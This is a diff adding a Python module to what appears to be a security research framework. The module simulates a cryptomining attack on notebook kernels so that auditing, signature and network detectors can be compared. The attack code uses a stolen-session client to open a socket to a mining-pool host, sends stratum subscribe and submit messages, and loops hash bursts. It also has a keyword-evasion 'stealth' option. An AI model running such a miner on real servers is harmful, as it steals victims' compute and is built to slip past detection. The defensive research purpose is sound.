@@ -1,0 +1,91 @@
+"""Cryptomining resource abuse (taxonomy: crypto-mining → disruption).
+
+The miner runs as kernel code: subscribe to the pool with a stratum-like
+JSON handshake, then alternate hash-grinding bursts with small, metronome-
+regular share submissions.  Three independent observables result:
+
+- sustained kernel CPU (audit plane: CPU_ABUSE),
+- ``stratum`` vocabulary in cell code (signature plane: SIG-MINER-POOL),
+- periodic small sends to one external host (network plane: MINER_BEACON).
+
+EXP-DET uses each plane alone and together, quantifying the paper's
+argument that kernel auditing complements network monitoring.
+"""
+
+from __future__ import annotations
+
+from typing import Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.taxonomy.oscrp import Avenue, Concern
+
+
+class CryptominingAttack(Attack):
+    """In-kernel hash miner with pool beacons."""
+
+    name = "cryptomining"
+    avenue = Avenue.CRYPTOMINING
+    technique = "kernel-cryptominer"
+
+    def __init__(self, *, rounds: int = 12, hashes_per_round: int = 400,
+                 beacon_interval: float = 30.0, stealth_no_keywords: bool = False):
+        self.rounds = rounds
+        self.hashes_per_round = hashes_per_round
+        self.beacon_interval = beacon_interval
+        self.stealth_no_keywords = stealth_no_keywords
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        auditor = scenario.audited_session(client)
+        pool_ip = scenario.mining_pool.host.ip
+        pool_port = scenario.mining_pool.port
+        subscribe = (
+            '{"id":1,"method":"login","params":{"agent":"nb/1.0"}}'
+            if self.stealth_no_keywords
+            else '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}'
+        )
+        setup = (
+            "import socket, hashlib, json\n"
+            "s = socket.socket()\n"
+            f"s.connect(('{pool_ip}', {pool_port}))\n"
+            f"s.send('{subscribe}')\n"
+            "nonce = 0\n"
+            "shares = 0"
+        )
+        reply = client.execute(setup, wait=60.0)
+        if reply is None or reply.content.get("status") != "ok":
+            return self._result(success=False, narrative="pool connect failed")
+        total_hashes = 0
+        for r in range(self.rounds):
+            submit = '{"method":"mining.submit","nonce":' if not self.stealth_no_keywords \
+                else '{"method":"put","v":'
+            burst = (
+                f"best = ''\n"
+                f"for i in range({self.hashes_per_round}):\n"
+                "    h = hashlib.sha256(str(nonce)).hexdigest()\n"
+                "    nonce += 1\n"
+                "    if h < '000fffff':\n"
+                "        best = h\n"
+                f"s.send('{submit}' + str(nonce) + '}}')\n"
+                "shares += 1"
+            )
+            client.execute(burst, wait=60.0)
+            total_hashes += self.hashes_per_round
+            scenario.run(self.beacon_interval)
+        scenario.run(2.0)
+        kernel = scenario.server.kernels[client.kernel_id]
+        cpu = kernel.total_cpu_seconds()
+        concerns: Set[Concern] = set()
+        if cpu > 1.0:
+            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
+        return self._result(
+            success=scenario.mining_pool.connections > 0 and total_hashes > 0,
+            concerns=concerns,
+            narrative=f"mined {total_hashes} hashes over {self.rounds} rounds, "
+                      f"{cpu:.2f} kernel CPU-seconds",
+            hashes=total_hashes,
+            cpu_seconds=cpu,
+            pool_messages=len(scenario.mining_pool.received),
+            beacon_interval=self.beacon_interval,
+        )
